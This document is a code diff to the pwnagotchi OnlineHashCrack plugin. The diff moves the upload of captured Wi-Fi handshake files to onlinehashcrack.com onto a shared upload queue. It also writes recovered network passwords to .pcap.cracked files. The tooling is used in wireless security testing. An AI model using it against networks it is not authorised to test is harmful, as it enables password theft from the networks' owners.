@@ -5,9 +5,9 @@ import re
 import requests
 from datetime import datetime
 from threading import Lock
-from pwnagotchi.utils import StatusFile, remove_whitelisted
+from pwnagotchi.utils import remove_whitelisted
 import pwnagotchi.plugins as plugins
-from json.decoder import JSONDecodeError
+from pwnagotchi import uploader
 
 
 class OnlineHashCrack(plugins.Plugin):
@@ -18,12 +18,8 @@ class OnlineHashCrack(plugins.Plugin):
 
     def __init__(self):
         self.ready = False
-        try:
-            self.report = StatusFile('/root/.ohc_uploads', data_format='json')
-        except JSONDecodeError:
-            os.remove('/root/.ohc_uploads')
-            self.report = StatusFile('/root/.ohc_uploads', data_format='json')
-        self.skip = list()
+        self.uploads = uploader.register('onlinehashcrack', '/root/.ohc_uploads', self._upload_to_ohc,
+                                         encode=self._check_handshake)
         self.lock = Lock()
 
     def on_loaded(self):
@@ -41,24 +37,26 @@ class OnlineHashCrack(plugins.Plugin):
         logging.info("OHC: OnlineHashCrack plugin loaded.")
 
 
-    def _upload_to_ohc(self, path, timeout=30):
+    @staticmethod
+    def _check_handshake(path):
+        if not os.path.exists(path):
+            raise uploader.PermanentError("%s does not exist anymore" % path)
+        return path
+
+    def _upload_to_ohc(self, session, paths, timeout=30):
         """
         Uploads the file to onlinehashcrack.com
         """
-        with open(path, 'rb') as file_to_upload:
+        for path in paths:
             data = {'email': self.options['email']}
-            payload = {'file': file_to_upload}
-
-            try:
-                result = requests.post('https://api.onlinehashcrack.com',
-                                       data=data,
-                                       files=payload,
-                                       timeout=timeout)
+            with uploader.MultipartBody('file', os.path.basename(path), path=path, fields=data) as body:
+                result = session.post('https://api.onlinehashcrack.com',
+                                      data=body,
+                                      headers={'Content-Type': body.content_type},
+                                      timeout=timeout)
+                result.raise_for_status()
                 if 'already been sent' in result.text:
                     logging.debug(f"{path} was already uploaded.")
-            except requests.exceptions.RequestException as e:
-                logging.debug(f"OHC: Got an exception while uploading {path} -> {e}")
-                raise e
 
     def _download_cracked(self, save_file, timeout=120):
         """
@@ -99,34 +97,18 @@ class OnlineHashCrack(plugins.Plugin):
         with self.lock:
             display = agent.view()
             config = agent.config()
-            reported = self.report.data_field_or('reported', default=list())
             handshake_dir = config['bettercap']['handshakes']
             handshake_filenames = os.listdir(handshake_dir)
             handshake_paths = [os.path.join(handshake_dir, filename) for filename in handshake_filenames if
                                filename.endswith('.pcap')]
             # pull out whitelisted APs
             handshake_paths = remove_whitelisted(handshake_paths, self.options['whitelist'])
-            handshake_new = set(handshake_paths) - set(reported) - set(self.skip)
-            if handshake_new:
-                logging.info("OHC: Internet connectivity detected. Uploading new handshakes to onlinehashcrack.com")
-                for idx, handshake in enumerate(handshake_new):
-                    display.on_uploading(f"onlinehashcrack.com ({idx + 1}/{len(handshake_new)})")
-
-                    try:
-                        self._upload_to_ohc(handshake)
-                        if handshake not in reported:
-                            reported.append(handshake)
-                            self.report.update(data={'reported': reported})
-                            logging.debug(f"OHC: Successfully uploaded {handshake}")
-                    except requests.exceptions.RequestException as req_e:
-                        self.skip.append(handshake)
-                        logging.debug("OHC: %s", req_e)
-                        continue
-                    except OSError as os_e:
-                        self.skip.append(handshake)
-                        logging.debug("OHC: %s", os_e)
-                        continue
+            self.uploads.enqueue(*handshake_paths)
 
+            if self.uploads.pending():
+                logging.info("OHC: Internet connectivity detected. Uploading new handshakes to onlinehashcrack.com")
+                self.uploads.process(
+                    progress=lambda done, total: display.on_uploading(f"onlinehashcrack.com ({done}/{total})"))
                 display.on_normal()
 
             if 'dashboard' in self.options and self.options['dashboard']:
@@ -148,5 +130,11 @@ class OnlineHashCrack(plugins.Plugin):
                             if row['password']:
                                 filename = re.sub(r'[^a-zA-Z0-9]', '', row['ESSID']) + '_' + row['BSSID'].replace(':','')
                                 if os.path.exists( os.path.join(handshake_dir, filename+'.pcap') ):
-                                    with open(os.path.join(handshake_dir, filename+'.pcap.cracked'), 'w') as f:
+                                    password_file = os.path.join(handshake_dir, filename+'.pcap.cracked')
+                                    if os.path.exists(password_file):
+                                        with open(password_file, 'r') as f:
+                                            if f.read() == row['password']:
+                                                continue
+                                    with open(password_file, 'w') as f:
                                         f.write(row['password'])
+                                    plugins.on('cracked', agent, password_file)